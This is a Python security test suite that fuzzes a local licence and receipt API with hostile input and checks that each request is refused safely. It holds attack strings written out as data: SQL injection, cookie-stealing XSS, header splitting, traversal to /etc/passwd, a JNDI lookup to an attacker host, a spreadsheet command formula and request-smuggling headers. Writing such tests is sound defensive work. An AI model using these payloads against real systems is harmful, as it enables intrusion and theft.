"""What attackers send to interfaces over HTTP, into every parameter and every member of every body that the description names.

Each has to be refused with problem details that repeat nothing of it as markup or header, or be taken as the plain text that
it is; the gateway goes on as before.
"""

import copy
import json
import pathlib
import re
import socket
import ssl
import sys
import tempfile
import unittest
import urllib.parse

import requests

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
import service  # noqa: E402  (found by the line above)

TEXTS = {
    "SQL": "' OR '1'='1'; DROP TABLE case_rows; --",
    "HTML": "<script>alert(document.cookie)</script>",
    "header splitting": "x\r\nSet-Cookie: session=stolen\r\n\r\n<html>",
    "path traversal": "../../../../etc/passwd",
    "percent-encoding": "%2e%2e%2f%2e%2e%2f%00",
    "doubled percent-encoding": "%252e%252e%252fetc%252fpasswd",
    "NUL": "a\u0000b",
    "template": "${jndi:ldap://attacker/x}{{7*7}}",
    "formula": "=cmd|' /C calc'!A0",
    "right-to-left override": "\u202egnp.exe",
    "length": "A" * 4_000,
    "nothing": "",
}
BODIES = {
    "a depth bomb": b"[" * 100_000,
    "a depth bomb of objects": b'{"a":' * 50_000,
    "a member twice": b'{"file": "0a", "file": "0b"}',
    "invalid UTF-8": b'{"file": "\xff\xfe"}',
    "an overlong encoding": b'{"file": "\xc0\xaf"}',
    "half a surrogate pair": rb'{"file": "\ud800"}',
    "a huge number": b'{"file": 1e999999999}',
    "a long number": b'{"file": ' + b"9" * 10_000 + b"}",
    "a number with a leading zero": b'{"file": 01}',
    "a trailing comma": b'{"file": "0a",}',
    "a comment": b'{"file": /* */ "0a"}',
    "two values": b"{}{}",
    "nothing": b"",
    "a byte order mark": b"\xef\xbb\xbf{}",
}


class Hostile(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.directory = tempfile.TemporaryDirectory()
        cls.addClassCleanup(cls.directory.cleanup)
        cls.service = service.Service(cls.directory.name)
        cls.service.__enter__()
        cls.addClassCleanup(cls.service.__exit__)
        cls.document = requests.get(
            f"{cls.service.address}/openapi.json", verify=cls.service.server_certificate, timeout=30).json()
        cls.session = requests.Session()
        cls.session.cert = cls.service.callers["client"]
        cls.session.verify = cls.service.server_certificate
        # Whatever bundle of authorities the environment names, it has not got this one.
        cls.session.trust_env = False
        cls.addClassCleanup(cls.session.close)

    def operations(self):
        for path, methods in self.document["paths"].items():
            for method, operation in methods.items():
                if operation["operationId"] != "streamEvents":
                    yield path, method.upper(), operation

    def resolved(self, schema):
        if "$ref" in schema:
            return self.document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
        return self.resolved(schema["anyOf"][0]) if "anyOf" in schema else schema

    def example(self, schema):
        """A value that the description lets through."""
        schema = self.resolved(schema)
        if "enum" in schema:
            return schema["enum"][0]
        kind = schema.get("type")
        kind = kind[0] if isinstance(kind, list) else kind
        if kind == "string":
            return schema["examples"][0]
        if kind == "integer":
            return schema["minimum"]
        if kind == "array":
            return [self.example(schema["items"])]
        if kind == "object":
            return {name: self.example(member) for name, member in schema["properties"].items()}
        return True

    def strings(self, value, place=()):
        """Where in a body strings stand."""
        if isinstance(value, str):
            yield place
        elif isinstance(value, dict):
            for name, member in value.items():
                yield from self.strings(member, (*place, name))
        elif isinstance(value, list):
            for index, element in enumerate(value):
                yield from self.strings(element, (*place, index))

    def check(self, response, sent):
        self.assertLess(response.status_code, 500, response.text)
        self.assertNotIn("Set-Cookie", response.headers)
        self.assertEqual(response.headers["X-Content-Type-Options"], "nosniff")
        if response.status_code >= 400:
            self.assertEqual(response.headers["Content-Type"], "application/problem+json")
            self.assertEqual(response.json()["status"], response.status_code)
            if len(sent) > 3:
                self.assertNotIn("<script>", response.text)
        return response.status_code

    def test_parameters_take_what_they_are_and_nothing_else(self):
        for path, method, operation in self.operations():
            parameters = [entry for entry in operation.get("parameters", []) if entry["in"] in ("path", "query")]
            for parameter in parameters:
                for kind, text in TEXTS.items():
                    if parameter["in"] == "path" and text == "":
                        continue
                    with self.subTest(operation=operation["operationId"], parameter=parameter["name"], text=kind):
                        target, query = path, {}
                        for entry in parameters:
                            value = text if entry is parameter else str(self.example(entry["schema"]))
                            if entry["in"] == "path":
                                target = target.replace(f"{{{entry['name']}}}", urllib.parse.quote(value, safe=""))
                            elif entry is parameter or entry["required"]:
                                query[entry["name"]] = value
                        body = self.example(operation["requestBody"]["content"]["application/json"]["schema"]) \
                            if "requestBody" in operation else None
                        response = self.session.request(
                            method, f"{self.service.api}{target}", params=query, json=body, timeout=60)
                        status = self.check(response, text)
                        # Nothing that a parameter may be looks like this; who may not have the operation hears that first.
                        self.assertIn(status, (400, 403, 404, 422))

    def test_members_take_what_they_are_and_nothing_else(self):
        for path, method, operation in self.operations():
            if "requestBody" not in operation:
                continue
            target = path
            for entry in operation.get("parameters", []):
                if entry["in"] == "path":
                    target = target.replace(f"{{{entry['name']}}}", urllib.parse.quote(str(self.example(entry["schema"])), safe=""))
            whole = self.example(operation["requestBody"]["content"]["application/json"]["schema"])
            for place in self.strings(whole):
                for kind, text in TEXTS.items():
                    with self.subTest(operation=operation["operationId"], member=place, text=kind):
                        body = copy.deepcopy(whole)
                        holder = body
                        for part in place[:-1]:
                            holder = holder[part]
                        holder[place[-1]] = text
                        status = self.check(
                            self.session.request(method, f"{self.service.api}{target}", json=body, timeout=60), text)
                        # Every optional member is there as well, and some exclude each other: nothing of this succeeds.
                        # That bytes are no receipt is an answer, not a refusal.
                        if operation["operationId"] != "verifyReceipt":
                            self.assertGreaterEqual(status, 400)

    def test_what_is_no_json_is_refused(self):
        for kind, body in BODIES.items():
            with self.subTest(body=kind):
                response = self.session.post(
                    f"{self.service.api}/receipts/verify", data=body, headers={"Content-Type": "application/json"}, timeout=60)
                self.assertEqual((self.check(response, ""), response.json()["code"]), (400, "malformedJSON"))

    def test_longer_bodies_than_described_are_not_read(self):
        response = self.session.post(
            f"{self.service.api}/licences/verify", data=b" " * (1 << 20), headers={"Content-Type": "application/json"}, timeout=60)
        self.assertEqual((self.check(response, ""), response.json()["code"]), (413, "bodyTooLarge"))

    def test_other_media_types_are_refused(self):
        for kind in ["text/plain", "application/xml", "multipart/form-data; boundary=x", "application/jsonx", ""]:
            with self.subTest(type=kind):
                response = self.session.post(
                    f"{self.service.api}/licences/verify", data=b"{}", headers={"Content-Type": kind}, timeout=60)
                self.assertEqual((self.check(response, ""), response.json()["code"]), (415, "unsupportedMediaType"))

    def raw(self, request):
        """The head of the answer to bytes that no library would send."""
        context = ssl.create_default_context(cafile=self.service.server_certificate)
        context.load_cert_chain(*self.service.callers["client"])
        with socket.create_connection(("127.0.0.1", self.service.port), timeout=40) as plain:
            with context.wrap_socket(plain, server_hostname="127.0.0.1") as connection:
                connection.sendall(request)
                return connection.recv(65_536)

    def test_malformed_requests_are_answered_or_cut_off_and_others_are_served_on(self):
        host = b"Host: 127.0.0.1\r\n"
        for kind, request in {
            "two lengths": b"POST /api/v1/licences/verify HTTP/1.1\r\n" + host + b"Content-Length: 2\r\nContent-Length: 5\r\n\r\n{}",
            "length and chunks": b"POST /api/v1/licences/verify HTTP/1.1\r\n" + host
            + b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n{}",
            "a header without a colon": b"GET /api/v1/ledger HTTP/1.1\r\n" + host + b"nonsense\r\n\r\n",
            "a head without an end": b"GET /api/v1/ledger HTTP/1.1\r\n" + b"X: " + b"a" * 200_000 + b"\r\n\r\n",
            "many headers": b"GET /api/v1/ledger HTTP/1.1\r\n" + host + b"".join(b"X-%d: a\r\n" % n for n in range(1_000)) + b"\r\n",
            "a negative length": b"POST /api/v1/licences/verify HTTP/1.1\r\n" + host + b"Content-Length: -1\r\n\r\n",
            "no HTTP": b"\x16\x03\x01" * 100 + b"\r\n\r\n",
            "a long target": b"GET /api/v1/ledger?" + b"a" * 20_000 + b" HTTP/1.1\r\n" + host + b"\r\n",
        }.items():
            with self.subTest(request=kind):
                try:
                    answer = self.raw(request)
                except (ConnectionError, ssl.SSLError):
                    answer = b""
                self.assertFalse(re.match(rb"HTTP/1.1 (2|5)", answer), answer[:200])
        self.assertEqual(self.service.call("GET", "/ledger").status_code, 200)

    def test_the_answer_of_the_first_time_is_given_again_with_its_place(self):
        body = self.service.opening("a holder of before")
        send = lambda: self.session.post(
            f"{self.service.api}/cases", json=body, headers={"Idempotency-Key": "a-case"}, timeout=60)
        first, again = send(), send()
        self.assertEqual(first.status_code, 201, first.text)
        self.assertEqual((again.status_code, again.json()), (201, first.json()))
        self.assertEqual(again.headers["Location"], first.headers["Location"])
        self.assertEqual(again.headers["Idempotency-Replayed"], "true")
        other = self.session.post(
            f"{self.service.api}/cases", json=self.service.opening("somebody else"),
            headers={"Idempotency-Key": "a-case"}, timeout=60)
        self.assertEqual((other.status_code, other.json()["code"]), (422, "keyReused"))

    def test_the_same_key_takes_effect_once_and_another_request_under_it_is_refused(self):
        body = self.service.verification()
        send = lambda value, key: self.session.post(
            f"{self.service.api}/uses/verifications", json=value, headers={"Idempotency-Key": key}, timeout=60)
        first = send(body, "a-key")
        self.assertEqual(first.status_code, 201, first.text)
        again = send(body, "a-key")
        self.assertEqual((again.status_code, again.json()), (201, first.json()))
        self.assertEqual(again.headers["Idempotency-Replayed"], "true")
        other = send({**body, "outcome": "fileDiffers"}, "a-key")
        self.assertEqual((other.status_code, other.json()["code"]), (422, "keyReused"))
        self.assertNotEqual(send(body, "another-key").json()["transaction"], first.json()["transaction"])
        for key in ["a key", "ä", "k" * 65, "a;b", "-a"]:
            with self.subTest(key=key[:16]):
                response = self.session.post(
                    f"{self.service.api}/uses/verifications", data=json.dumps(body),
                    headers={"Idempotency-Key": key.encode(), "Content-Type": "application/json"}, timeout=60)
                self.assertEqual((self.check(response, ""), response.json()["code"]), (400, "invalidHeader"))


if __name__ == "__main__":
    unittest.main()
